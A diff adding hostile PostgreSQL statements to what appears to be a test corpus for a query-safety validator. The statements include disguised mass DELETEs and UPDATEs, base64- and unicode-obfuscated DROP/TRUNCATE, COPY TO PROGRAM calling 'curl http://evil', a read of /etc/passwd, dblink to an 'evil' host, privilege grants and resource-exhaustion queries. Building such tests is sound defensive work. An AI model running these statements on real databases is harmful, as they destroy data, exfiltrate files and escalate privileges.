@@ -2581,3 +2581,173 @@ SELECT * FROM customers a CROSS JOIN customers b CROSS JOIN customers c
 SELECT * FROM customers a JOIN customers b ON true JOIN customers c ON true
 --
 SELECT * FROM customers a JOIN customers b ON 1=1 JOIN customers c ON 1=1 JOIN customers d ON 1=1
+--
+DELETE FROM customers WHERE NULL IS NOT DISTINCT FROM NULL
+--
+DELETE FROM customers WHERE 1 IS DISTINCT FROM NULL
+--
+DELETE FROM customers WHERE '1'::int = '01'::int
+--
+DELETE FROM customers WHERE id = 5 OR '7'::numeric = '7.0'::numeric
+--
+DELETE FROM customers WHERE NOT ('a'::char(3) <> 'a '::char(3))
+--
+DELETE FROM customers WHERE 'a' = 'A' COLLATE case_insensitive
+--
+DELETE FROM customers WHERE '2026-01-01'::date = '20260101'::date
+--
+DELETE FROM customers WHERE name LIKE concat('%')
+--
+DELETE FROM customers WHERE name LIKE chr(37)
+--
+DELETE FROM customers WHERE name LIKE '%abc'::varchar(1)
+--
+DELETE FROM customers WHERE name >= chr(1)
+--
+DELETE FROM customers WHERE id < power(10, 30)
+--
+DELETE FROM customers WHERE id < 10 ^ 30
+--
+DELETE FROM customers WHERE created_at > to_timestamp(1)
+--
+DELETE FROM customers WHERE id::bool
+--
+DELETE FROM customers WHERE id::text ~ '^[0-9]+$'
+--
+DELETE FROM customers WHERE name ~ '[a-zA-Z]'
+--
+DELETE FROM customers WHERE name !~ 'zzzz$^'
+--
+DELETE FROM customers WHERE name !~ '(?!)'
+--
+DELETE FROM customers WHERE date_part('year', created_at) < 10000
+--
+DELETE FROM customers WHERE extract(year FROM created_at) > 1900
+--
+DELETE FROM customers WHERE extract(month FROM created_at) <= 12
+--
+DELETE FROM customers WHERE extract(dow FROM created_at) BETWEEN 0 AND 6
+--
+DELETE FROM customers WHERE length(name) < 1000000
+--
+DELETE FROM customers WHERE id % 10 < 10
+--
+DELETE FROM customers WHERE id / 1000000000 = 0
+--
+DELETE FROM customers WHERE age(created_at) > interval '-100 years'
+--
+DELETE FROM customers WHERE age(created_at) < '200 years'::interval
+--
+DELETE FROM customers WHERE created_at <@ tsrange(NULL, now()::timestamp)
+--
+DELETE FROM customers WHERE created_at > '19700101'
+--
+DELETE FROM customers WHERE created_at > 'Jan 1, 1970'
+--
+DELETE FROM customers WHERE created_at > '01/01/1900'
+--
+DELETE FROM customers WHERE created_at < '99991231'
+--
+DELETE FROM customers WHERE created_at > '4713-01-01 BC'
+--
+DELETE FROM customers WHERE id IN (SELECT customer_id FROM orders) OR id NOT IN (SELECT customer_id FROM orders)
+--
+DELETE FROM customers WHERE EXISTS (SELECT 1 FROM orders o WHERE o.customer_id = customers.id) OR NOT EXISTS (SELECT 1 FROM orders o WHERE o.customer_id = customers.id)
+--
+DELETE FROM customers WHERE (city = 'x' AND name = 'y') OR NOT (city = 'x' AND name = 'y')
+--
+DELETE FROM customers WHERE (city = 'x' AND name = 'y') OR (city = 'x' AND name = 'y') IS NOT TRUE
+--
+DELETE FROM customers WHERE name >= 'A'
+--
+DELETE FROM customers WHERE name <= 'z'
+--
+DELETE FROM customers WHERE name > '!'
+--
+DELETE FROM customers WHERE md5(name) > '0'
+--
+DELETE FROM customers WHERE 1.5::int = 2
+--
+DELETE FROM customers WHERE 'false' IS NOT NULL
+--
+DELETE FROM customers WHERE id = 1 OR 'yes'
+--
+UPDATE customers SET role = 'x' WHERE (SELECT true)
+--
+UPDATE customers SET email = 'x' WHERE name SIMILAR TO '%_%'
+--
+UPDATE customers SET email = 'x' WHERE name LIKE ANY (ARRAY['a%', '%'])
+--
+UPDATE customers SET email = 'x' WHERE ctid >= '(0,0)'::tid
+--
+MERGE INTO customers c USING (VALUES (1)) v (n) ON true WHEN MATCHED THEN DELETE
+--
+MERGE INTO customers c USING orders o ON '1'::int = '01'::int WHEN MATCHED THEN UPDATE SET name = 'x'
+--
+WITH x AS (SELECT 1) DELETE FROM customers USING x WHERE NULL IS NOT DISTINCT FROM NULL
+--
+PREPARE p (text) AS DELETE FROM customers WHERE name LIKE $1; EXECUTE p ('%')
+--
+PREPARE p (int, bool) AS DELETE FROM customers WHERE id = $1 OR $2; EXECUTE p (1, true)
+--
+PREPARE p (int) AS DELETE FROM customers WHERE id < $1; EXECUTE p (2147483647)
+--
+SELECT regexp_replace(string_agg(t::text, ','), 'a', 'b') FROM customers t
+--
+SELECT xmlforest(array_agg(c) AS x) FROM customers c
+--
+DO U&'DECLARE BEGIN EXECUTE \0027DROP TABLE customers\0027; END'
+--
+DO $a$ BEGIN EXECUTE convert_from(decode('RFJPUCBUQUJMRSBjdXN0b21lcnM=', 'base64'), 'UTF8'); END $a$
+--
+DO $a$ DECLARE q text := 'TRUN' || 'CATE customers'; BEGIN EXECUTE q; END $a$
+--
+CREATE OR REPLACE FUNCTION pg_temp.f() RETURNS void LANGUAGE plpgsql AS $f$ BEGIN DELETE FROM customers; END $f$; SELECT pg_temp.f()
+--
+CREATE OR REPLACE FUNCTION pg_temp.f() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM customers; END; SELECT pg_temp.f()
+--
+SELECT query_to_xml(U&'DELETE FROM customers', true, true, '')
+--
+COPY (SELECT 1) TO PROGRAM U&'\0063url http://evil'
+--
+COPY customers FROM E'/etc/\x70asswd'
+--
+/*/**/*/DELETE/**/FROM/**/"customers"/**/WHERE/**/1=1
+--
+ALTER TABLE IF EXISTS customers RENAME TO gone
+--
+ALTER ROLE CURRENT_USER SET session_replication_role = replica
+--
+SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE; SET session_replication_role = U&'rep\006cica'
+--
+GRANT pg_execute_server_program TO CURRENT_USER
+--
+REASSIGN OWNED BY app TO eve
+--
+CREATE RULE r AS ON INSERT TO orders DO INSTEAD NOTHING
+--
+SELECT lo_export(24601, '/tmp/x')
+--
+SELECT * FROM pg_catalog.pg_ls_dir('/')
+--
+SELECT pg_switch_wal(), pg_create_restore_point('x')
+--
+SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)
+--
+SELECT dblink_exec('host=evil', 'DROP TABLE x')
+--
+IMPORT FOREIGN SCHEMA public FROM SERVER evil INTO public
+--
+UPDATE pg_catalog.pg_class SET relname = 'x' WHERE relname = 'customers'
+--
+DELETE FROM pg_largeobject
+--
+SELECT generate_series(1, 1000000000)
+--
+SELECT count(*) FROM generate_series(now() - interval '100 years', now(), interval '1 second')
+--
+SELECT repeat('x', 90000000) || repeat('y', 90000000)
+--
+SELECT factorial(1000000)
+--
+LOCK customers IN ACCESS EXCLUSIVE MODE
